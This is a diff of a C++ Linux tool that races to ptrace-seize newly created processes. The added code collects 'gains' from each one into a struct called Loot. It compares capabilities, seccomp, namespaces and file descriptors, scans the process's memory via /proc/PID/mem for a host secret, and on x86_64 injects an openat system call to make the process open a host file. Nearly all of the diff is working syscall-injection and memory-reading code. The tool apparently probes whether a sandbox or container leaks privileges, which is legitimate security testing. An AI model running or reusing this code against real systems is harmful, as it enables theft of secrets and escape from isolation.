@@ -3,16 +3,28 @@
 // The next process has the next number, or one of those after it where it missed some. Prints a
 // line for each: "PID EXE UID" is what was traced, the program that it ran and who it was then;
 // "PID refused" one that could not be traced as long as it was there.
+//
+// With a host's file and a secret of the host's as arguments a line is "PID EXE UID gains: WHAT;…":
+// what the process has that this one has not, whether its memory could be read and it could be
+// made to call, and what came of that.
+#include <dirent.h>
+#include <elf.h>
 #include <errno.h>
+#include <fcntl.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <sys/ptrace.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/uio.h>
+#include <sys/user.h>
 #include <sys/wait.h>
 #include <unistd.h>
 
 #include <algorithm>
 #include <string>
+#include <vector>
 
 namespace {
 
@@ -20,30 +32,167 @@ std::string path_of(pid_t pid, const char* file) {
   return "/proc/" + std::to_string(pid) + "/" + file;
 }
 
-std::string program_of(pid_t pid) {
-  char target[256] = "?";
-  const ssize_t size = readlink(path_of(pid, "exe").c_str(), target, sizeof target - 1);
+std::string link_of(const std::string& path) {
+  char target[512] = "?";
+  const ssize_t size = readlink(path.c_str(), target, sizeof target - 1);
   return std::string(target, size < 0 ? 1 : static_cast<size_t>(size));
 }
 
-/// The real user id.
-long user_of(pid_t pid) {
+/// A line of /proc/PID/status without its name; see proc_pid_status(5).
+std::string status_of(pid_t pid, const std::string& name) {
   FILE* file = fopen(path_of(pid, "status").c_str(), "re");
-  if (file == nullptr) return -1;
-  char line[256];
-  long user = -1;
+  if (file == nullptr) return "?";
+  char line[512];
+  std::string value = "?";
   while (fgets(line, sizeof line, file) != nullptr) {
-    if (strncmp(line, "Uid:", 4) == 0) user = strtol(line + 4, nullptr, 10);
+    if (strncmp(line, name.c_str(), name.size()) == 0 && line[name.size()] == ':') {
+      value = line + name.size() + 1;
+      value.erase(0, value.find_first_not_of(" \t"));
+      value.erase(value.find_last_not_of('\n') + 1);
+    }
   }
   fclose(file);
-  return user;
+  return value;
 }
 
-void tell_of(pid_t pid) {
+/// The real user id.
+long user_of(pid_t pid) { return strtol(status_of(pid, "Uid").c_str(), nullptr, 10); }
+
+struct Loot {
+  const char* file;    ///< of the host
+  const char* secret;  ///< that is in the host's memory
+  std::vector<std::string> gains;
+
+  void note(const std::string& gain) { gains.push_back(gain); }
+};
+
+void look_at_rights(pid_t pid, Loot& loot) {
+  for (const char* set : {"CapPrm", "CapEff", "CapInh", "CapBnd", "CapAmb"}) {
+    const auto rights = strtoull(status_of(pid, set).c_str(), nullptr, 16);
+    if ((rights & ~strtoull(status_of(getpid(), set).c_str(), nullptr, 16)) != 0) {
+      loot.note(std::string(set) + ":" + status_of(pid, set));
+    }
+  }
+  for (const char* confinement : {"Seccomp", "Seccomp_filters", "NoNewPrivs"}) {
+    const std::string value = status_of(pid, confinement);
+    if (value < status_of(getpid(), confinement)) loot.note(confinement + (":" + value));
+  }
+}
+
+void look_at_places(pid_t pid, Loot& loot) {
+  for (const char* kind : {"cgroup", "ipc", "mnt", "net", "pid", "pid_for_children", "user", "uts"}) {
+    const std::string name = std::string("ns/") + kind;
+    if (link_of(path_of(pid, name.c_str())) != link_of(path_of(getpid(), name.c_str()))) {
+      loot.note(name);
+    }
+  }
+  for (const char* place : {"root/", "cwd/"}) {
+    struct stat theirs{};
+    struct stat own{};
+    if (stat(path_of(pid, place).c_str(), &theirs) == 0 && stat("/", &own) == 0 &&
+        (theirs.st_dev != own.st_dev || theirs.st_ino != own.st_ino)) {
+      loot.note(place);
+    }
+  }
+}
+
+/// Beyond its standard streams it may have one socket, by which it tells how its execve(2) ends.
+void look_at_files(pid_t pid, Loot& loot) {
+  DIR* files = opendir(path_of(pid, "fd").c_str());
+  int sockets = 0;
+  for (const dirent* entry; files != nullptr && (entry = readdir(files)) != nullptr;) {
+    if (strtol(entry->d_name, nullptr, 10) < 3) continue;
+    const std::string target = link_of(path_of(pid, "fd/") + entry->d_name);
+    if (!target.starts_with("socket:") || ++sockets > 1) loot.note("fd:" + target);
+  }
+  if (files != nullptr) closedir(files);
+}
+
+void look_at_memory(pid_t pid, Loot& loot) {
+  const int memory = open(path_of(pid, "mem").c_str(), O_RDWR | O_CLOEXEC);
+  FILE* maps = fopen(path_of(pid, "maps").c_str(), "re");
+  char line[1024];
+  bool found = false;
+  bool read_any = false;
+  while (maps != nullptr && memory >= 0 && fgets(line, sizeof line, maps) != nullptr) {
+    unsigned long begin = 0;
+    unsigned long end = 0;
+    if (sscanf(line, "%lx-%lx", &begin, &end) != 2 || end - begin > (64UL << 20)) continue;
+    std::string bytes(end - begin, '\0');
+    const ssize_t size = pread(memory, bytes.data(), bytes.size(), static_cast<off_t>(begin));
+    if (size <= 0) continue;
+    read_any = true;
+    bytes.resize(static_cast<size_t>(size));
+    found = found || bytes.find(loot.secret) != std::string::npos;
+  }
+  if (maps != nullptr) fclose(maps);
+  if (memory >= 0) close(memory);
+  if (found) loot.note("memory:secret");
+  if (read_any) loot.note("read");
+}
+
+#ifdef __x86_64__
+/// Lets the process run to the begin or end of its next system call.
+bool run_to_call(pid_t pid) {
+  int status = 0;
+  return ptrace(PTRACE_SYSCALL, pid, nullptr, nullptr) == 0 &&
+         waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status) &&
+         WSTOPSIG(status) == (SIGTRAP | 0x80);
+}
+
+bool move_registers(int request, pid_t pid, user_regs_struct& registers) {
+  iovec vector{&registers, sizeof registers};
+  return ptrace(static_cast<__ptrace_request>(request), pid, NT_PRSTATUS, &vector) == 0;
+}
+
+/// Has it open the host's file instead of what it was about to call, and call that afterwards.
+void make_it_open(pid_t pid, Loot& loot) {
+  user_regs_struct before{};
+  if (!run_to_call(pid) || !move_registers(PTRACE_GETREGSET, pid, before)) return;
+  user_regs_struct registers = before;
+  std::string path = loot.file;
+  path.resize((path.size() + 8) / 8 * 8);
+  const unsigned long place = (before.rsp - 2048 - path.size()) & ~7UL;
+  for (size_t i = 0; i < path.size(); i += 8) {
+    long word = 0;
+    memcpy(&word, path.data() + i, sizeof word);
+    ptrace(PTRACE_POKEDATA, pid, place + i, word);
+  }
+  registers.orig_rax = SYS_openat;
+  registers.rdi = static_cast<unsigned long>(AT_FDCWD);
+  registers.rsi = place;
+  registers.rdx = O_RDONLY | O_CLOEXEC;
+  if (!move_registers(PTRACE_SETREGSET, pid, registers) || !run_to_call(pid) ||
+      !move_registers(PTRACE_GETREGSET, pid, registers)) {
+    return;
+  }
+  loot.note("made it call");
+  if (static_cast<long>(registers.rax) >= 0) loot.note("opened:" + std::string(loot.file));
+  before.rip -= 2;  // of "syscall"
+  before.rax = before.orig_rax;
+  before.orig_rax = ~0UL;
+  move_registers(PTRACE_SETREGSET, pid, before);
+}
+#else
+void make_it_open(pid_t, Loot&) {}
+#endif
+
+void tell_of(pid_t pid, Loot* loot) {
   int status = 0;
   ptrace(PTRACE_INTERRUPT, pid, nullptr, nullptr);
   if (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) {
-    printf("%d %s %ld\n", pid, program_of(pid).c_str(), user_of(pid));
+    std::string line = link_of(path_of(pid, "exe")) + " " + std::to_string(user_of(pid));
+    if (loot != nullptr) {
+      loot->gains.clear();
+      look_at_rights(pid, *loot);
+      look_at_places(pid, *loot);
+      look_at_files(pid, *loot);
+      look_at_memory(pid, *loot);
+      make_it_open(pid, *loot);
+      line += " gains:";
+      for (const std::string& gain : loot->gains) line += " " + gain + ";";
+    }
+    printf("%d %s\n", pid, line.c_str());
   } else {
     printf("%d ended\n", pid);
   }
@@ -60,7 +209,7 @@ pid_t newest() {
 }
 
 /// Waits for a process that is newer than `last`; its number.
-pid_t look_at_next(pid_t last) {
+pid_t look_at_next(pid_t last, Loot* loot) {
   constexpr int ahead = 4;
   constexpr int turns = 256;
   pid_t first = last + 1;
@@ -69,8 +218,8 @@ pid_t look_at_next(pid_t last) {
     // Where others had the processor meanwhile, some have come and gone.
     if (turn % turns == 0 && seen < 0) first = std::max(first, newest() + 1);
     for (pid_t pid = first; pid < first + ahead; ++pid) {
-      if (ptrace(PTRACE_SEIZE, pid, nullptr, nullptr) == 0) {
-        tell_of(pid);
+      if (ptrace(PTRACE_SEIZE, pid, nullptr, PTRACE_O_TRACESYSGOOD) == 0) {
+        tell_of(pid, loot);
         return pid;
       }
       if (errno != ESRCH) seen = pid;
@@ -84,8 +233,9 @@ pid_t look_at_next(pid_t last) {
 
 }  // namespace
 
-int main() {
+int main(int argc, char** argv) {
+  Loot loot{argc > 2 ? argv[1] : "", argc > 2 ? argv[2] : "", {}};
   setvbuf(stdout, nullptr, _IOLBF, 0);
   printf("begun\n");
-  for (pid_t pid = 1;;) pid = look_at_next(pid);
+  for (pid_t pid = 1;;) pid = look_at_next(pid, argc > 2 ? &loot : nullptr);
 }
